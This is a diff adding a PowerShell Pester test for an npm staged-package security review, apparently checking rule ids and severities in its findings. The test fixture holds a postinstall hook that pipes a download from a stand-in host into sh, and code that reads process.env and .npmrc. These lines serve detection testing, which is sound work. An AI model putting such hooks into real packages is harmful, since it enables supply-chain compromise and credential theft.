@@ -328,6 +328,29 @@ Describe 'Publish-pipeline findings beside the other audits' {
         $visible[0].Location.Path | Should -Be (Join-Path $m.Project '.github/workflows/release.yml')
         $visible[0].Location.Line | Should -Be 8
     }
+
+    It 'keeps review rules to Compare-NpmStagedPackage and gives each change one rule id and one catalog severity' {
+        $pkg = Join-Path $m.Root 'staged/package'
+        $null = New-Item -ItemType Directory -Path $pkg -Force
+        Write-Utf8File (Join-Path $pkg 'package.json') '{"name":"consistency","version":"1.0.0","scripts":{"postinstall":"curl -s https://e.example/i | sh"},"dependencies":{"g":"github:x/y"}}'
+        Write-Utf8File (Join-Path $pkg 'index.js') "require('child_process'); JSON.stringify(process.env); require('fs').readFileSync('.npmrc')`n"
+        $tgz = Join-Path $m.Root 'staged.tgz'
+        & tar -czf $tgz -C (Split-Path $pkg) package
+        $review = @(Compare-NpmStagedPackage -Path $tgz)
+        $review.Count | Should -BeGreaterOrEqual 8
+        @($review | Where-Object RuleId -notlike 'NPMH12???').Count | Should -Be 0
+        $posture = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable)
+        @($posture | Where-Object RuleId -like 'NPMH12???').Count | Should -Be 0 -Because 'only the review judges tarballs'
+        $catalog = @{}
+        foreach ($r in Get-NpmRule -RuleId 'NPMH12*') { $catalog[$r.RuleId] = $r; $r.Audit | Should -Be 'Compare-NpmStagedPackage' }
+        foreach ($c in $review) {
+            $c.Title | Should -Be $catalog[$c.RuleId].Title
+            if (-not $c.SeverityReason) { "$($c.Severity)" | Should -Be "$($catalog[$c.RuleId].Severity)" }
+            $c.ComputerName | Should -Be ([Environment]::MachineName)
+        }
+        @($review.FactId | Select-Object -Unique).Count | Should -Be $review.Count
+        @($review | Where-Object { @($posture.FactId) -contains $_.FactId }).Count | Should -Be 0
+    }
 }
 
 
